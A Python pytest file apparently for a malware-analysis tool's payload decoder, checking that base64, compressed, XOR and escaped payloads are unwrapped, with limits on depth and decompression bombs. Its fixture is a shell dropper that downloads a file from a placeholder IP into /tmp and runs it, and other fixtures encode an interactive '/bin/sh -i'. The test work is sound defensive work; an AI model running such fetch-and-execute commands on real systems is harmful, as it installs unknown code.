"""What is encoded is decoded, several deep, and within bounds."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from malkoha.processing import payloads

INNER = b"#!/bin/sh\ncd /tmp; wget http://203.0.113.9/x -O .x; chmod +x .x; ./.x &\n"


@pytest.mark.parametrize(
    ("raw", "how"),
    [
        (INNER, ["base64"]),
        (gzip.compress(INNER), ["base64", "gzip"]),
        (bz2.compress(INNER), ["base64", "bzip2"]),
        (lzma.compress(INNER), ["base64", "xz"]),
        (zlib.compress(INNER), ["base64", "zlib"]),
        (bytes(byte ^ 0x42 for byte in INNER), ["base64", "xor 0x42"]),
        (base64.b64encode(INNER), ["base64", "base64"]),
    ],
)
def test_encodings_in_base64(raw: bytes, how: list[str]) -> None:
    found, cut = payloads.decode(b"X=" + base64.b64encode(raw) + b"\n")
    assert not cut
    assert (found[-1].how, found[-1].data) == (how, INNER)


@pytest.mark.parametrize(
    ("text", "how"),
    [
        ("".join(f"\\x{byte:02x}" for byte in b"/bin/sh -i"), "hex escapes"),
        ("".join(f"\\{byte:03o}" for byte in b"/bin/sh -i"), "octal escapes"),
        ("".join(f"%{byte:02x}" for byte in b"/bin/sh -i"), "percent escapes"),
        (b"/bin/sh -i; exec 5<>x".hex(), "hex"),
        (", ".join(str(byte) for byte in b"/bin/sh -i 12 34"), "numbers"),
    ],
)
def test_other_encodings(text: str, how: str) -> None:
    found, _ = payloads.decode(f"printf '{text}'".encode())
    assert [payload.how for payload in found] == [[how]]
    assert found[0].data.startswith(b"/bin/sh -i")


def test_words_and_hashes_are_no_payloads() -> None:
    text = (
        b"internationalization sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 /usr/share/doc/x"
    )
    assert payloads.decode(text) == ([], False)


def test_a_bomb_is_cut() -> None:
    bomb = base64.b64encode(gzip.compress(bytes(64 << 20)))
    found, _ = payloads.decode(bomb)
    assert max(len(payload.data) for payload in found) <= payloads.SIZE


def test_depth_is_bounded_and_said() -> None:
    data = INNER
    for _ in range(payloads.DEPTH + 3):
        data = base64.b64encode(data)
    found, cut = payloads.decode(data)
    assert cut
    assert max(len(payload.how) for payload in found) == payloads.DEPTH


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=4096))
def test_nothing_raises(data: bytes) -> None:
    payloads.decode(data)
    payloads.decode(base64.b64encode(data))
